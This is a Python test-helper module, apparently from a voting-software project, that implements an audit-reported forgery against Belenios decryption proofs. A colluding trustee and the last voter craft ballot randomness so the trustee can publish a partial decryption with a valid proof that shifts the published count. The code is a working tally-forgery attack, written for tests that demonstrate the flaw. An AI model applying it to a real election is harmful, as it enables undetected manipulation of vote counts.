"""The audit's forgery of a result with valid Belenios decryption proofs (issue 7, defect 1), step by step.

Belenios' decryption proof takes its challenge from ``decrypt|φ|X|A,B`` only: neither α nor the factor F.  So
a trustee (secret x, key X = g^x) colluding with the voter of the last counted ballot can, for each answer:

1. pick w, b and commit A = g^w, B = α_rest^w · g^b (α_rest: the product of the other counted ballots' α);
2. compute c = H(decrypt|φ|X|, [A, B]) and hand t = (b − d·c)/w to the voter, who uses it as the randomness
   of an otherwise honest ballot, so the tally's α = α_rest · g^t;
3. publish F = α^x · g^d with response r = w − x·c: g^r X^c = A and α^r F^c = α^w g^{dc} = α_rest^w g^b = B.

The published count moves by −λ·d (λ the trustee's Lagrange coefficient, 1 for a Single trustee).  Helpers of
the tests in tests/interop and tests/integration (pytest puts this directory on ``sys.path``).
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from strikevote.belenios.ballot import create_ballot
from strikevote.belenios.election import ElectionParams
from strikevote.belenios.tally import EncryptedTally, PartialDecryption, decrypt_prefix
from strikevote.crypto.proofs import Proof
from strikevote.crypto.randomness import DeterministicRandomness, Randomness


class ScriptedRandomness:
    """Returns the scripted scalars to the first ``below`` calls (create_ballot draws each answer's
    encryption randomness first), then an ordinary stream."""

    def __init__(self, scripted: Sequence[int], seed: str) -> None:
        self._scripted = list(scripted)
        self._rest = DeterministicRandomness(seed)

    def below(self, n: int) -> int:
        if self._scripted:
            return self._scripted.pop(0)
        return self._rest.below(n)

    def token_bytes(self, n: int) -> bytes:
        return self._rest.token_bytes(n)


@dataclass(frozen=True)
class Forgery:
    """One question's forgery: per answer j, the commitment nonce w, b, the shift d and the challenge c."""

    w: list[int]
    d: list[int]
    c: list[int]
    t: list[int]  # the colluding voter's encryption randomness, per answer


def plan(
    election: ElectionParams,
    public: Any,
    alpha_rest: Sequence[Any],
    shifts: Sequence[int],
    lam: int,
    rng: Randomness,
) -> Forgery:
    """Steps 1–2 for the one question: ``shifts[j]`` is how much the published count of answer j moves."""
    g, q = election.group, election.group.q
    prefix = decrypt_prefix(election, public)
    ws, ds, cs, ts = [], [], [], []
    for a_rest, shift in zip(alpha_rest, shifts, strict=True):
        w, b = g.random_nonzero_scalar(rng), g.random_scalar(rng)
        d = (-shift * pow(lam, -1, q)) % q  # m' = m − λ·d = m + shift
        c = g.hash(prefix, [g.g_pow(w), g.mul(g.pow(a_rest, w), g.g_pow(b))])
        ws.append(w)
        ds.append(d)
        cs.append(c)
        ts.append((b - d * c) * pow(w, -1, q) % q)
    return Forgery(ws, ds, cs, ts)


def colluding_ballot(
    election: ElectionParams, secret: int, plaintext: list[list[int]], forgery: Forgery
) -> str:
    """The last voter's honest ballot, encrypted with the trustee's t as randomness."""
    rng = ScriptedRandomness(forgery.t, "colluding voter")
    return create_ballot(election, secret, plaintext, rng).raw


def forged_partial(
    election: ElectionParams, tally: EncryptedTally, x: int, forgery: Forgery
) -> PartialDecryption:
    """Step 3: F = α^x · g^d with the response w − x·c, for the one question."""
    g, q = election.group, election.group.q
    (row,) = tally
    factors = [g.mul(g.pow(ct.alpha, x), g.g_pow(d)) for ct, d in zip(row, forgery.d, strict=True)]
    prfs = [Proof(c, (w - x * c) % q) for w, c in zip(forgery.w, forgery.c, strict=True)]
    return PartialDecryption([factors], [prfs])


def weak_style_strong_proofs(x: int, forgery: Forgery, q: int) -> list[list[Proof]]:
    """The forger's best try at strikevote's strong proofs: the same (c, w − x·c) it gave Belenios."""
    return [[Proof(c, (w - x * c) % q) for w, c in zip(forgery.w, forgery.c, strict=True)]]
